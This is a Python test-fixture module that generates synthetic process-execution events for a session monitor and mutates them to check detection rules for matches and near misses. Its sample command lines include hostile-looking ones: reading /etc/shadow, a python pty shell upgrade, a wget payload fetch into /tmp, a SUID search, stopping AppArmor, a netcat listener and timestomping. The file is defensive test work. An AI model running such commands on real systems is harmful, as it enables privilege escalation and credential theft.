# SPDX-License-Identifier: GPL-2.0-or-later
"""Documents as "sessmon monitor -j" writes them: what a host does in an hour, and what the
literals of rules make of it.

All of it is made up, in the form that real ones have, and the same at each run.
"""

import copy
import random
import shlex

# Program, command line, its parent, the parent's command line.
PEOPLE = """
/usr/bin/id|id|/usr/bin/bash|-bash
/usr/bin/whoami|whoami|/usr/bin/dash|sh -c whoami
/usr/bin/ls|ls --color=auto -la /etc|/usr/bin/bash|-bash
/usr/bin/cat|cat /etc/passwd|/usr/bin/bash|-bash
/usr/bin/cat|cat /proc/self/status /etc/shadow|/usr/bin/sudo|sudo cat /etc/shadow
/usr/bin/sudo|sudo -u root -i|/usr/bin/bash|-bash
/usr/bin/vim.basic|vim /etc/ssh/sshd_config|/usr/bin/bash|-bash
/usr/bin/git|git commit -m 'base64 -d of a thing'|/usr/bin/zsh|-zsh
/usr/bin/make|make -j4 CC=gcc-12 all|/usr/bin/bash|-bash
/usr/bin/gcc-12|gcc-12 -O2 -c -o /tmp/x.o x.c|/usr/bin/make|make -j4 all
/usr/bin/python3.11|python3 -c 'import pty; pty.spawn("/bin/bash")'|/usr/bin/bash|-bash
/usr/bin/ssh|ssh -o ProxyCommand=none admin@host uptime|/usr/bin/bash|-bash
/usr/bin/curl|curl -fsSL https://example.org/install.sh|/usr/bin/bash|-bash
/usr/bin/wget|wget -q -O /tmp/a http://203.0.113.9/a|/usr/bin/dash|sh -c wget
/usr/bin/find|find / -perm -4000 -type f|/usr/bin/bash|bash
/usr/bin/grep|grep -r password /var/www|/usr/bin/bash|bash
/usr/bin/crontab|crontab -l|/usr/bin/bash|-bash
/usr/bin/systemctl|systemctl stop apparmor.service|/usr/bin/bash|-bash
/usr/sbin/useradd|useradd -m -s /bin/bash eve|/usr/bin/sudo|sudo useradd
/usr/bin/chmod|chmod u+s /tmp/sh|/usr/bin/bash|bash
/usr/bin/apt-get|apt-get -y install nmap|/usr/bin/sudo|sudo apt-get
/usr/bin/tail|tail -f /var/log/syslog|/usr/bin/bash|-bash
/usr/bin/ps|ps auxf|/usr/bin/bash|-bash
/usr/sbin/ip|ip addr show|/usr/bin/bash|-bash
/usr/bin/nc.openbsd|nc -lvp 4444|/usr/bin/bash|bash
/usr/bin/bash|bash -i|/usr/bin/python3.11|python3 x.py
/usr/bin/tar|tar czf /tmp/etc.tgz /etc|/usr/bin/bash|bash
/usr/bin/docker|docker run --rm -it debian bash|/usr/bin/bash|-bash
/usr/bin/kill|kill -9 4711|/usr/bin/bash|-bash
/usr/bin/echo|echo aGVsbG8= |/usr/bin/bash|-bash
/usr/bin/base64|base64 -d|/usr/bin/bash|-bash
/usr/bin/touch|touch -t 202001010000 /tmp/x|/usr/bin/bash|-bash
/usr/bin/tmux|tmux new -s work|/usr/bin/bash|-bash
/home/älice/bin/prüfung|prüfung --größe=3 *|/usr/bin/bash|-bash
"""
SERVICES = """
/usr/sbin/cron|/usr/sbin/CRON -f|/usr/sbin/cron|/usr/sbin/cron -f
/usr/bin/dash|/bin/sh -c test -x /usr/sbin/anacron|/usr/sbin/cron|/usr/sbin/CRON -f
/usr/bin/run-parts|run-parts --report /etc/cron.hourly|/usr/bin/dash|/bin/sh -c run-parts
/usr/lib/apt/apt.systemd.daily|/bin/sh /usr/lib/apt/apt.systemd.daily update|/usr/lib/systemd/systemd|/sbin/init
/usr/sbin/sshd|sshd: [accepted]|/usr/sbin/sshd|sshd: /usr/sbin/sshd -D
/usr/sbin/unix_chkpwd|/usr/sbin/unix_chkpwd root nullok|/usr/sbin/sshd|sshd: root [priv]
/usr/bin/run-parts|run-parts --lsbsysinit /etc/update-motd.d|/usr/bin/dash|sh -c run-parts
/usr/bin/uname|uname -snrvm|/usr/bin/dash|/bin/sh /etc/update-motd.d/10-uname
/usr/sbin/logrotate|/usr/sbin/logrotate /etc/logrotate.conf|/usr/lib/systemd/systemd|/sbin/init
/usr/bin/dpkg|/usr/bin/dpkg --print-foreign-architectures|/usr/bin/apt-get|apt-get -qq update
/usr/lib/systemd/systemd-executor|/usr/lib/systemd/systemd-executor --deserialize 9|/usr/lib/systemd/systemd|/sbin/init
/usr/bin/sleep|sleep 30|/usr/bin/bash|bash /opt/probe.sh
/usr/bin/php8.2|php -f /var/www/cron.php|/usr/bin/dash|sh -c php
/usr/bin/id|id|/usr/sbin/apache2|/usr/sbin/apache2 -k start
/usr/bin/modprobe|/sbin/modprobe -q -- net-pf-10||
/usr/bin/node|node /srv/app/server.js|/usr/lib/systemd/systemd|/sbin/init
"""
CLASSES = {"interactive_remote": ("sshd", "door_tty", "pts/0"),
           "noninteractive_remote": ("sshd", "door_no_tty", None),
           "interactive_local": ("getty", "getty", "tty1"),
           "service": ("unknown", "init_child", None)}


def document(line, session_class, number):
    image, command, parent, parent_command = line.split("|")
    entry, reason, tty = CLASSES[session_class]
    person = session_class != "service"
    uid = 1000 if person and number % 3 else 0
    boot = "5f0c1a52-8f3b-4a55-9d0e-0123456789ab"
    d = {
        "event": {"kind": "event", "action": "exec"},
        "process": {
            "entity_id": f"{boot}:{4000 + number}:{10**9 * number}", "pid": 4000 + number,
            "executable": image, "args": shlex.split(command) or [command],
            "command_line": command,
            "working_directory": ["/", "/root", "/tmp", "/home/alice"][number % 4],
            "user": {"id": str(uid), "name": "alice" if uid else "root"},
            "real_user": {"id": str(uid), "name": "alice" if uid else "root"},
            "interactive": tty is not None,
            "session_leader": {"executable": "/usr/bin/bash" if person else image},
        },
        "sessmon": {
            "event": "exec", "boottime": str(10**12 + number),
            "process": {"exec_count": 1 + number % 3,
                        "exe": {"flags": ["at_terminal"] if tty else []}},
            "session": {"key": {"start_ns": str(10**12 - 10**9 * number * 7)},
                        "class": session_class, "reason": reason,
                        "flags": ["had_tty"] if tty else [], "entry": {"type": entry}},
        },
    }
    if parent:
        d["process"]["parent"] = {"pid": 4000, "executable": parent, "command_line": parent_command}
    if tty:
        d["sessmon"]["process"]["tty"] = {"name": tty}
    if person:
        d["sessmon"]["session"]["login_user"] = {"id": str(uid)}
        d["sessmon"]["session"]["peer"] = {"remote": {"ip": "192.0.2.7", "port": 4711}}
    return d


def corpus():
    """What a host does."""
    lines = PEOPLE.strip().split("\n"), SERVICES.strip().split("\n")
    made = []
    for session_class in CLASSES:
        for line in lines[session_class == "service"]:
            made.append(document(line, session_class, len(made)))
    made += [document(line, "service", len(made) + i) for i, line in enumerate(lines[0])]
    return made


PLACES = {"Image": ("process", "executable"), "CommandLine": ("process", "command_line"),
          "ParentImage": ("process", "parent", "executable"),
          "ParentCommandLine": ("process", "parent", "command_line"),
          "CurrentDirectory": ("process", "working_directory"),
          "User": ("process", "real_user", "name"),
          "LogonId": ("sessmon", "session", "login_user", "id"),
          "sessmon.class": ("sessmon", "session", "class"),
          "sessmon.entry.type": ("sessmon", "session", "entry", "type")}


def put(document_, field, value):
    *way, last = PLACES[field]
    for key in way:
        document_ = document_.setdefault(key, {})
    if value is None:
        document_.pop(last, None)
    else:
        document_[last] = value


def items(search):
    """Fields with their modifiers and values, of a search of any form."""
    if isinstance(search, list):
        return [item for each in search for item in items(each)]
    if not isinstance(search, dict):
        return [("CommandLine", {"contains"}, [str(search)])]
    found = []
    for key, values in search.items():
        field, *words = key.split("|")
        values = values if isinstance(values, list) else [values]
        found.append((field or "CommandLine", set(words), [v for v in values if v is not None]))
    return [(f, w, [v if isinstance(v, str) else str(v) for v in v_]) for f, w, v_ in found
            if f in PLACES and v_]


def literal(value):
    """Text that a value of a rule would find."""
    return value.replace("\\*", "\0").replace("*", "x").replace("?", "y").replace("\0", "*")


def place(old, words, values):
    """A fact that these values of a rule are in."""
    middle = " ".join(literal(v) for v in values)
    if "startswith" in words:
        return middle + old
    if "endswith" in words:
        return old + middle
    if "contains" in words:
        return f"{old} {middle}" if old else middle
    return middle


# Something of all that the regular expressions of public rules look for.
EXPRESSIONS = " -D -O -F -id https://198.51.100.7 -W '4142 4344' " + "A" * 200


def satisfied(rule, base, random_):
    """An event that has a value of each field of each search, or of one search of some."""
    d = copy.deepcopy(base)
    facts = {}
    searches = [search for name, search in rule.document["detection"].items()
                if name != "condition" and not name.startswith("filter")]
    if random_.randrange(2):
        searches = random_.sample(searches, random_.randint(1, len(searches)))
    for search in searches:
        # Of maps one is enough, and all of them may be too much.
        maps = isinstance(search, list) and isinstance(search[0], dict)
        for field, words, values in items(random_.choice(search) if maps else search):
            if "re" in words:
                values = [EXPRESSIONS]
                words = {"contains"}
            chosen = values if "all" in words else [random_.choice(values)]
            facts.setdefault(field, []).append((words, chosen))
    order = {"startswith": 2, "endswith": 1}
    for field, found in facts.items():
        found.sort(key=lambda f: max([order.get(w, 0) for w in f[0]] or [-1]))
        value = ""
        for words, chosen in found:
            value = place(value, words, chosen)
        put(d, field, value)
    return d


def change(d, random_):
    """A near miss, or what must make no difference."""
    field = random_.choice(["Image", "CommandLine", "ParentImage", "ParentCommandLine"])
    *way, last = PLACES[field]
    at = d
    for key in way:
        at = at.setdefault(key, {})
    value = at.get(last, "")
    kind = random_.randrange(7)
    if kind == 0:
        value = value[:-1]
    elif kind == 1:
        value = value[1:]
    elif kind == 2:
        value = value.upper()
    elif kind == 3:
        cut = random_.randrange(len(value) + 1)
        value = value[:cut] + value[cut + 1:]
    elif kind == 4:
        value = value + " "
    elif kind == 5:
        value = random_.choice(["\\", "Ä", "😀", "*", "?", "\n", "\ufffd"]) + value
    else:
        value = None
    put(d, field, value)
    return d


def mutations(rules, base, each, seed=18):
    """For each rule events that it matches, nearly matches, or should not match."""
    random_ = random.Random(seed)
    for rule in rules:
        for i in range(each):
            d = satisfied(rule, random_.choice(base), random_)
            if i % 3 == 1:
                d = change(d, random_)
            if i % 3 == 2:
                # One literal alone, of any search, filters too, in what happens anyway.
                found = [item for name, s in rule.document["detection"].items()
                         if name != "condition" for item in items(s)]
                d = copy.deepcopy(random_.choice(base))
                if found:
                    field, words, values = random_.choice(found)
                    put(d, field, place("/usr/bin/x", words, [random_.choice(values)]))
            yield d
